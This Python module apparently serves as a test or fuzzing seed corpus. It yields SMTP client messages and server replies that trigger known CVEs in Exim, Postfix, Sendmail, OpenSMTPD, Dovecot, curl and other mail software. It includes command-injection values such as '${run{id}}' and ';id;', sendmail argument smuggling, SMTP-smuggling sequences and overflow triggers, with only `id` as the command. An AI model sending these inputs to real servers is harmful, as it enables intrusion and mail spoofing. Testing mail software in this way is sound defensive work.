"""The shapes that set off bugs which mail programs have had, by number. Each is what a client (or a
server) said; none does harm by itself, commands in them are `id` or nothing."""

from seeds_client import ENVELOPE, HELLO, LETTER, LINE_ENDS, QUIT, SMUGGLED, mail
from seeds_server import GRANTED, GREETING, said


def command(line):
    return HELLO + line + b"\r\n" + QUIT


def header(line):
    return mail(line + b"\r\n" + LETTER)


def client():
    yield from exim()
    yield from others()


def exim():
    yield "exim-CVE-2010-4344", HELLO + 2 * (ENVELOPE + b"DATA\r\n" + b"".join(
        b"X%d: %s\r\n" % (n, b"a" * 500) for n in range(20)) + b"\r\n.\r\n") + QUIT
    yield "exim-CVE-2011-1764", header(
        b"DKIM-Signature: v=1; a=rsa-sha256; d=%s%n.test; s=%s; h=from; i=%n@x; bh=AA==; b=AA==")
    yield "exim-CVE-2017-16943", (HELLO + ENVELOPE + b"a" * 4096 + b"\r\nBDAT 1\r\n:BDAT \x7f\r\n"
                                  + b"a" * 8000 + b":\r\n\n")
    yield "exim-CVE-2017-16944", HELLO + ENVELOPE + b"BDAT 100\r\n.\r\n" + b"b" * 99 + QUIT
    yield "exim-CVE-2018-6789", HELLO + b"AUTH CRAM-MD5\r\n" + b"A" * 4095 + b"\r\n" + QUIT
    yield "exim-CVE-2019-10149", command(
        b"MAIL FROM:<>\r\nRCPT TO:<${run{id}}@localhost>\r\nRCPT TO:<${run{id}}@mx.test>")
    yield "exim-CVE-2019-15846", HELLO + b"STARTTLS\r\n" + (
        b"\x16\x03\x01\0\x45\x01\0\0\x41\x03\x03" + bytes(32) + b"\0\0\x02\x13\x01\1\0\0\x16"
        b"\0\0\0\x0e\0\x0c\0\0\x09mx.test\\\0" + b"\xff\1\0\1\0")
    yield "exim-CVE-2019-16928", b"EHLO " + b"a" * 12000 + b"\r\n" + QUIT
    yield "exim-CVE-2020-28018", HELLO + ENVELOPE + b"STARTTLS\r\nNOOP\r\nRSET\r\n" + ENVELOPE
    yield "exim-CVE-2020-28019", HELLO + ENVELOPE + b"BDAT 10\r\nBDAT 10\r\n" + b"BDAT 1\r\n" * 40
    yield "exim-CVE-2020-28020", mail(b"X: a\r\n" + (b" " + b"b" * 60 + b"\r\n") * 400 + b"\r\n")
    yield "exim-CVE-2020-28021", command(b"MAIL FROM:<a@b> AUTH=a+0Ab+0A-d+0A")
    yield "exim-CVE-2020-28022", command(b'MAIL FROM:<a@b> X="')
    yield "exim-CVE-2020-28026", command(b"MAIL FROM:<a@b>\r\nRCPT TO:<c@d> ORCPT=rfc822;a+0Ab+0A")
    yield "exim-CVE-2023-42117", b"PROXY TCP4 1.1.1.1 2.2.2.2 1\r\n" + HELLO
    yield "exim-CVE-2023-51766", mail(LETTER + b"\n.\r\n" + SMUGGLED)
    yield "exim-CVE-2026-45185", (HELLO + b"STARTTLS\r\n\x16\x03\x01\0\x01\0" + ENVELOPE
                                  + b"BDAT 100\r\nabc\x15\x03\x03\0\x02\x01\0x")


def others():
    yield "opensmtpd-CVE-2020-7247", command(
        b"MAIL FROM:<;id;>\r\nRCPT TO:<root>\r\nDATA\r\n\r\n#\r\n.")
    yield "postfix-CVE-2011-0411", HELLO + b"STARTTLS\r\nNOOP\r\n"
    yield "postfix-CVE-2023-51764", mail(LETTER + b"\n.\n" + SMUGGLED)
    yield "postfix-CVE-2011-1720", (HELLO + b"AUTH CRAM-MD5\r\nAAAA\r\nAUTH DIGEST-MD5\r\nAAAA\r\n")
    yield "sendmail-CVE-2023-51765", mail(LETTER + b"\r\n.\n" + SMUGGLED)
    yield "sendmail-CVE-2002-1337", header(b"From: " + b"<>" * 300 + b" (a)")
    yield "sendmail-CVE-2003-0161", command(b"MAIL FROM:<" + b"\\\xff" * 200 + b"@me.test>")
    yield "sendmail-CVE-2006-1173", mail(b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n)
        for n in range(120)))
    yield "aiosmtpd-CVE-2024-27305", mail(LETTER + LINE_ENDS["lf"] + b"." + b"\r\n" + SMUGGLED)
    yield "aiosmtpd-CVE-2024-34083", HELLO + b"STARTTLS\r\n" + ENVELOPE
    yield "dovecot-CVE-2020-10957", HELLO + b"NOOP \r\n\r\nNOOP \"\r\n" + QUIT
    yield "dovecot-CVE-2020-10958", HELLO + b"NOOP" + b"\r\n" * 300 + b"EHLO\r\n" + QUIT
    yield "dovecot-CVE-2020-10967", command(
        b'RSET\r\nMAIL FROM:<""@me.test>\r\nRCPT TO:<""@mx.test>')
    yield "dovecot-CVE-2021-33515", HELLO + b"STARTTLS\r\n" + ENVELOPE + b"DATA\r\n"
    yield "nodemailer-CVE-2020-7769", command(b"MAIL FROM:<-oQ@x -X/a>")
    yield "nodemailer-crlf-in-address", command(b"MAIL FROM:<a@b>\r\nRCPT TO:<a>\r\nRCPT TO:<b>")
    yield "net-smtp-CVE-2015-9096", command(b"MAIL FROM:<a@b>\nDATA\nx>\r\nRCPT TO:<a@b>\rDATA")
    yield "aiosmtplib-crlf-in-hello", b"EHLO me.test\rMAIL FROM:<a@b>\nNOOP\r\n" + QUIT
    yield "lettre-CVE-2020-28247", command(b"MAIL FROM:<-Cf@me.test>")
    yield "lettre-CVE-2021-38189", mail(LETTER + b"a\n.\r\n" + SMUGGLED + b"\r.\r\n")
    yield "james-CVE-2023-51747", mail(LETTER + b"\r.\r" + SMUGGLED)


def server():
    offers = ["250-mx.test", "250 AUTH DIGEST-MD5"]
    yield "opensmtpd-CVE-2020-8794", said(GREETING, "250 mx.test", "553-a", "553") + (
        b"553-\ntype: mda\nmda-exec: id\r\n" + b"553\r\n")
    yield "curl-CVE-2018-0500", said(GREETING, "250-mx.test", "250 SIZE 1", *GRANTED)
    yield "curl-CVE-2019-3823", said(GREETING, "250 mx.test") + b"250\r1"
    yield "curl-CVE-2013-0249", said(GREETING, *offers) + (
        b"334 " + b"cmVhbG09Im14" * 200 + b"\r\n")
    yield "curl-CVE-2021-22947", said(GREETING, "250-mx.test", "250 STARTTLS", "220 go",
                                      "250-mx.test", "250 AUTH PLAIN", "235 ok", *GRANTED)
    yield "msmtp-CVE-2019-8337", said(GREETING, "250-mx.test", "250 STARTTLS", "220 go") + bytes(50)
    yield "exim-CVE-2023-42114", said(GREETING, "250-mx.test", "250 AUTH NTLM", "334 NTLM",
                                      "334 TlRMTVNTUAACAAAA////////////AAAA")
